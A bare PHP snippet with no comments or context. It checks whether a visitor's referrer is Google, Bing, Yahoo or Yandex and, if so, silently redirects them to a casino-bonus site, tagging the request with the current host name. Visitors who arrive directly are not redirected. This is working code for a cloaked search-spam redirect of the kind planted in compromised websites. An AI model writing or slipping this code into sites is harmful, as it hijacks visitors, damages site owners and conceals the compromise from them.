<?php
$ref = $_SERVER['HTTP_REFERER'] ?? '';
$from = ['google.', 'bing.', 'yahoo.', 'yandex.'];
foreach ($from as $engine) {
    if (str_contains($ref, $engine)) {
        header('Location: https://casino-bonus.example/?r=' . urlencode($_SERVER['HTTP_HOST']));
        exit;
    }
}
